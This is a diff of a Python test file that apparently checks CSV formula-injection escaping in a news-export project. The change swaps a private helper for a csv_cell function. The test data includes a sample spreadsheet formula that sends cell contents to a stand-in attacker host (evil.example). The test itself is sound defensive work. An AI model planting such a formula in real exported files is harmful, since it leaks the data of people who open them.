@@ -98,8 +98,7 @@ def test_csv_cells_that_would_be_formulas_start_with_a_quote(tmp_path):
 
     from fastapi.testclient import TestClient
 
-    from khabar.export.csv_files import _cell
-    from khabar.safetext import spreadsheet_cell
+    from khabar.safetext import csv_cell, spreadsheet_cell
     from khabar.web import create_app
 
     title = '=HYPERLINK("http://evil.example/?"&A1,"خبر")'
@@ -120,7 +119,7 @@ def test_csv_cells_that_would_be_formulas_start_with_a_quote(tmp_path):
     for cell in ("\tx", "\rx", "+98", "-", "＝1+1"):
         assert spreadsheet_cell(cell) == "'" + cell
     assert spreadsheet_cell("وزیر = رئیس") == "وزیر = رئیس"
-    assert (_cell(-2.5), _cell(-3.0), spreadsheet_cell(-7)) == (-2.5, -3, -7)  # numbers
+    assert (csv_cell(-2.5), csv_cell(-3.0), spreadsheet_cell(-7)) == (-2.5, -3, -7)  # numbers
 
 
 def test_a_writer_waits_for_the_lock_then_says_why(tmp_path, monkeypatch):
